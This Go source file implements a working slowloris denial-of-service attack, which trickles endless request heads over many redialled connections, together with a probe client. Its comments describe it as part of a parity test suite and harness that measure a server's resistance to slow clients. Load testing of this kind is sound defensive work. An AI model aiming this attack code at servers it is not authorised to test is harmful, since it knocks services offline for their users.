// Package slowclient is a slow-head ("slowloris") attack and the
// well-behaved client that measures what it costs, for the parity suite
// (parity/slowclient_test.go) and the harness's slow_clients scenario.
//
// Attack keeps Conns connections open to a listener, each sending a request
// head one byte every ByteInterval and never finishing it; a connection the
// server closes is dialled again, as a real attacker would. Probe sends
// requests one after another on one keep-alive connection and reports how
// many were answered and the longest stretch without an answer.
package slowclient

import (
	"context"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"
)

// Options of an attack.
type Options struct {
	Addr         string        // host:port of the listener under attack
	Conns        int           // attack connections kept open
	ByteInterval time.Duration // pause between two bytes of a head (default 1 s)
	// DialConcurrency bounds dials in flight (default 64): the attack ramps
	// up without flooding the accept queue faster than a server drains it.
	DialConcurrency int
}

// Stats counts what an attack did; read it with Snapshot.
type Stats struct {
	dials, dialErrors, closedByServer, bytesSent, open atomic.Int64
}

// StatsSnapshot is a copy of Stats.
type StatsSnapshot struct {
	Dials, DialErrors, ClosedByServer, BytesSent, Open int64
}

func (s *Stats) Snapshot() StatsSnapshot {
	return StatsSnapshot{s.dials.Load(), s.dialErrors.Load(), s.closedByServer.Load(), s.bytesSent.Load(), s.open.Load()}
}

// head is sent a byte at a time; after it come endless "X-Slow: 1" lines,
// so the head never ends and never grows past a server's size limit before
// its head timeout.
const head = "GET /slow HTTP/1.1\r\nHost: slow.test\r\nX-Routing-Key: slow\r\n"
const filler = "X-Slow: 1\r\n"

// Attack runs until ctx is done, then closes every connection and returns.
func Attack(ctx context.Context, o Options, stats *Stats) {
	if o.ByteInterval <= 0 {
		o.ByteInterval = time.Second
	}
	if o.DialConcurrency <= 0 {
		o.DialConcurrency = 64
	}
	dialSlots := make(chan struct{}, o.DialConcurrency)
	var wg sync.WaitGroup
	for i := 0; i < o.Conns; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			// Spread the bytes of different connections over the interval.
			offset := time.Duration(i) * o.ByteInterval / time.Duration(max(o.Conns, 1))
			for ctx.Err() == nil {
				slowConn(ctx, o, offset, dialSlots, stats)
			}
		}(i)
	}
	wg.Wait()
}

// slowConn dials once and trickles a head until the server closes the
// connection or ctx ends.
func slowConn(ctx context.Context, o Options, offset time.Duration, dialSlots chan struct{}, stats *Stats) {
	select {
	case dialSlots <- struct{}{}:
	case <-ctx.Done():
		return
	}
	d := net.Dialer{Timeout: 2 * time.Second}
	c, err := d.DialContext(ctx, "tcp", o.Addr)
	<-dialSlots
	stats.dials.Add(1)
	if err != nil {
		stats.dialErrors.Add(1)
		sleep(ctx, 50*time.Millisecond)
		return
	}
	stats.open.Add(1)
	defer stats.open.Add(-1)
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	defer c.Close()
	// Notice a close by the server at once (a read returns), not only at
	// the next write.
	closed := make(chan struct{})
	go func() {
		var b [256]byte
		for {
			if _, err := c.Read(b[:]); err != nil {
				close(closed)
				return
			}
		}
	}()
	if !sleepOr(ctx, offset, closed) {
		return
	}
	msg := head
	for i := 0; ; i++ {
		if i >= len(msg) {
			msg, i = filler, 0
		}
		if _, err := c.Write([]byte{msg[i]}); err != nil {
			stats.closedByServer.Add(1)
			return
		}
		stats.bytesSent.Add(1)
		if !sleepOr(ctx, o.ByteInterval, closed) {
			if ctx.Err() == nil {
				stats.closedByServer.Add(1)
			}
			return
		}
	}
}

func sleep(ctx context.Context, d time.Duration) { sleepOr(ctx, d, nil) }

// sleepOr waits d; false if ctx ended or done closed first.
func sleepOr(ctx context.Context, d time.Duration, done <-chan struct{}) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	case <-done:
		return false
	}
}

// ProbeResult is what a well-behaved client saw.
type ProbeResult struct {
	Sent, Answered int
	// LongestOutage is the longest time without an answered request: from
	// the start (or the last answer) to the next answer, or to the end.
	LongestOutage time.Duration
	// Failures holds the first few errors or unexpected statuses.
	Failures []string
}

// SuccessRate is Answered / Sent.
func (r ProbeResult) SuccessRate() float64 {
	if r.Sent == 0 {
		return 0
	}
	return float64(r.Answered) / float64(r.Sent)
}

// ProbeOptions describe the well-behaved client.
type ProbeOptions struct {
	URL    string
	Header http.Header
	// Interval between the starts of two requests (back to back if one
	// takes longer); RequestTimeout bounds each.
	Interval, RequestTimeout time.Duration
	// ReconnectEvery > 0 closes the connection after every so many
	// requests, so the client needs new connections during an attack as
	// real keep-alive clients do (pool turnover, server-side limits).
	ReconnectEvery int
}

// Probe sends GET requests on one keep-alive connection at a time until
// ctx is done. A request counts as answered when it gets a 2xx with its
// whole body.
func Probe(ctx context.Context, o ProbeOptions) ProbeResult {
	tr := &http.Transport{MaxConnsPerHost: 1, MaxIdleConnsPerHost: 1, DisableCompression: true}
	defer tr.CloseIdleConnections()
	client := &http.Client{Transport: tr, Timeout: o.RequestTimeout}
	url, header, interval := o.URL, o.Header, o.Interval
	var res ProbeResult
	start := time.Now()
	last := start
	for ctx.Err() == nil {
		began := time.Now()
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
		if err != nil {
			res.Failures = append(res.Failures, err.Error())
			return res
		}
		req.Header = header.Clone()
		if o.ReconnectEvery > 0 && (res.Sent+1)%o.ReconnectEvery == 0 {
			req.Close = true // the next request needs a new connection
		}
		ok, why := probeOnce(client, req)
		if ctx.Err() != nil && !ok {
			break // cut by the end of the probe, not by the server
		}
		res.Sent++
		now := time.Now()
		if ok {
			res.Answered++
			res.LongestOutage = max(res.LongestOutage, now.Sub(last))
			last = now
		} else if len(res.Failures) < 10 {
			res.Failures = append(res.Failures, now.Sub(start).Round(time.Millisecond).String()+": "+why)
		}
		sleep(ctx, interval-time.Since(began))
	}
	res.LongestOutage = max(res.LongestOutage, time.Since(last))
	return res
}

func probeOnce(client *http.Client, req *http.Request) (bool, string) {
	resp, err := client.Do(req)
	if err != nil {
		return false, err.Error()
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return false, "body: " + err.Error()
	}
	if resp.StatusCode/100 != 2 {
		return false, resp.Status
	}
	return true, ""
}
